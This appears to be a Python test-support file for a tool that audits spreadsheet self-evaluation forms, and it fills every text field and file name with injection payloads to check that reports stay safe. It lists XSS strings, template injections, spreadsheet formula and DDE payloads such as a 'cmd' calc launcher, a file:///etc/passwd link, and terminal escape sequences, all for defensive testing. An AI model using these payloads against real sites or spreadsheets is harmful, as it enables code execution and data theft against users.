"""What somebody may write into a field so that a report does more than show it, and a verdict full of it."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from pathlib import Path

from perfxl.finding import Diagnosis, Finding, NotRun, NotUnderstood, Severity, Verdict, Waiver
from perfxl.form import load_form
from perfxl.number import read_target
from perfxl.record import Assignment, FundingLine, Indicator, SelfEvaluation, SignOff, Target
from perfxl.template import build_workbook
from perfxl.xlsx.writer import write_workbook

XSS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.test/x.js></SCRIPT>", "</script><script>alert(1)</script>",
    "</SCRIPT ><img src=x onerror=alert(1)>", "<!--<script>alert(1)", "<!--<script>", "--><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert`1`>", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<form action=javascript:alert(1)><input type=submit>", "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<link rel=stylesheet href=//x.test/x.css>", "<base href=//x.test/>", "<style>@import'//x.test/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table background=javascript:alert(1)>", "<td><td onmouseover=alert(1)>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)", "x onmouseover=alert(1) x=", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "&#x3c;script&#x3e;", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "\";alert(1);//", "';alert(1);//", "\\\";alert(1);//",
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>", "\u2028alert(1)\u2029", "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\x00script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "__proto__", "constructor", "toString", "{rule.__class__}", "{0}", "{}", "{expected", "%s%n%d",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=HYPERLINK(\"http://x.test\",\"x\")", "=WEBSERVICE(\"http://x.test\")", "{=1+1}", "http://x.test", "https://x.test/a",
    "mailto:a@x.test", "external:\\\\x.test\\a", "internal:A1", "file:///etc/passwd", "ftp://x.test", "\\\\x.test\\share",
    "\"=1+1", "';=1+1", "a\",=1+1", "a;=1+1", " =1+1", "|calc", "=-1", "-2+3+cmd|' /C calc'!A0", "00123", "1E5", "TRUE", "<r><t>x</t></r>",
    "_x003D_1+1", "_x000D_", "'=1+1",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://x.test\x1b\\x", "\x9b31m", "\x90x\x9c", "a\rb", "a\x08b", "\x7f", "\x00",
    "\u202egnp.exe", "\u2066a\u2069", "\u200b\u200d", "\ufeff", "\u061c", "[red]x[/]", "[link=http://x.test]x[/link]", "[/]", "[bold]x",
    ":smile:", "\ud800", "\udcb2\udcc6", "a\n\n\nb", "\x1bPq\x1b\\", "\u0085", "\u2028",
)  # fmt: skip
ALL = (*XSS, *FORMULAS, *TERMINAL)
BENIGN = "党建经费"


def verdict(text: str) -> Verdict:
    """A verdict in which that text stands wherever a text of a return, or its name, can stand."""
    half = Decimal("0.5")
    row = Indicator(
        level_1=text, level_2=text, level_3=text, target=Target(text=text), actual=Target(text=text), weight=half,
        score=half, variance_explanation=text, operator=text, unit=text, core=text, serial=text, description=text,
        goal=text, remark=text, adjusted_target=Target(text=text),
    )  # fmt: skip
    record = SelfEvaluation(
        fiscal_year=2022, project_name=text, supervising_department=text, implementing_unit=text, currency_unit=text,
        funds=(FundingLine(source="total", annual_budget=half, reason=text),), expected_goal=text, actual_result=text,
        indicators=(row,), total_score=Decimal("-88.25"), sign_off=(SignOff(term="preparer", label=text, text=text),),
        evaluation=text, problems=text, measures=text, grade=text, project_code=text,
    )  # fmt: skip
    facts = dict.fromkeys(
        ("text", "name", "row", "found", "issued", "stated", "column", "label", "grade", "right"), text
    )
    diagnosis = Diagnosis(state="ambiguous", name="other_denominator", rule="X05", facts=facts)
    finding = Finding(
        rule="T01", severity=Severity.ERROR, sheet=text, cell="H31", field="total_score", expected=Decimal("91.83"),
        actual=Decimal("-88.25"), difference=Decimal("-180.08"), facts=facts,
        diagnosis=replace(diagnosis, alternatives=(diagnosis,)),
    )  # fmt: skip
    stated = replace(
        finding, rule="V01", field="indicators[0].actual", cell="F9", expected=text, actual=text, diagnosis=None
    )
    odd = replace(stated, rule="W05", severity=Severity.WARNING, field=text, cell=None, caused_by=("T01", "H31"))
    waiver = Waiver(rule="V02", reason=text, approver=text, expires="2026-12-31", file=text, source=text, number=1)
    let = replace(stated, rule="V02", severity=Severity.INFO, cell="E9", waived=waiver)
    return Verdict(
        file=text, sheet=text, sha256="00", status="fail", form="shanghai", form_reason="labels", stamp=text,
        not_understood=(NotUnderstood(cell="B40", text=text),), record=record, findings=(finding, stated, odd, let),
        not_run=(NotRun(rule="S01", cell="H9", field="indicators[0].score", missing=("actual.number", text)),),
        notes=(("COMMENTS", text), (text, text)), grade="良",
    )  # fmt: skip


def rejected(text: str) -> Verdict:
    """A file of that name that was not judged, for a reason found at that place."""
    return Verdict(file=text, status="rejected", code="ENCRYPTED", where=text)


def workbook(text: str) -> bytes:
    """A form filled in with that text in every cell that takes a text; a file cannot hold half a character."""
    given = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    row = Indicator(
        level_1="产出指标", level_2="数量指标", level_3=given, target=read_target(given), weight=Decimal(90)
    )
    done = replace(row, actual=read_target(given), score=Decimal(80), variance_explanation=given)
    assignment = Assignment(
        id="A1", form="shanghai", fiscal_year=2022, indicators=(row,),
        project_name=given, supervising_department=given, implementing_unit=given,
    )  # fmt: skip
    funds = tuple(
        FundingLine(source=source, initial_budget=Decimal(100), annual_budget=Decimal(100), executed_amount=Decimal(-5))
        for source in ("total", "appropriation")
    )
    record = SelfEvaluation(
        fiscal_year=2022, funds=funds, indicators=(done,), expected_goal=given, actual_result=given,
        project_name=given, supervising_department=given, implementing_unit=given,
    )  # fmt: skip
    return write_workbook(build_workbook(load_form("shanghai"), [assignment], year=2022, records=[record]))


def folder(place: Path, payloads: tuple[str, ...] = ALL) -> Path:
    """A folder of returns, one a payload; a file is called by the payload as far as a file can be."""
    place.mkdir()
    for number, text in enumerate(payloads):
        data = workbook(text)
        bare = "".join(sign for sign in text if sign not in "/\\\0")[:60]
        try:
            (place / f"{number:03}{bare}.xlsx").write_bytes(data)
        except (OSError, UnicodeEncodeError, ValueError):
            (place / f"{number:03}.xlsx").write_bytes(data)
    return place
